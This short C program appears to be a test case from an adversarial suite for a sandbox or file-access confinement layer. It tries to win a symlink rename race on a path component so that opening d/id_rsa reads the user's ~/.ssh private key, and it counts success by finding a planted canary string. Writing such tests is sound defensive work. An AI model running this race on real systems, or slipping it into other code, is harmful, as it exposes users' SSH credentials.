// technique: a thread swaps a project directory for a symlink to ~/.ssh (rename race on a path component) while the main thread opens d/id_rsa
// timeout: 60
#include "adv.h"
#include <pthread.h>
static volatile int stop;
static void *swap(void *a) {
	while (!stop) {
		rename("d", "d.real"); rename("d.evil", "d");
		rename("d", "d.evil"); rename("d.real", "d");
	}
	return a;
}
int main(void) {
	char target[1024];
	snprintf(target, sizeof target, "%s/.ssh", adv("HOME"));
	mkdir("d", 0755);
	int f = open("d/id_rsa", O_CREAT | O_WRONLY, 0644); write(f, "decoy\n", 6); close(f);
	symlink(target, "d.evil");
	pthread_t t;
	pthread_create(&t, 0, swap, 0);
	int got = 0;
	for (int i = 0; i < 20000 && !got; i++) {
		int fd = open("d/id_rsa", O_RDONLY);
		if (fd < 0) continue;
		char buf[256];
		ssize_t n = read(fd, buf, sizeof buf - 1);
		close(fd);
		if (n > 0) { buf[n] = 0; if (strstr(buf, "CANARY")) { printf("race won: %s\n", buf); got = 1; } }
	}
	stop = 1;
	pthread_join(t, 0);
	printf("secret reads: %d\n", got);
	return 0;
}
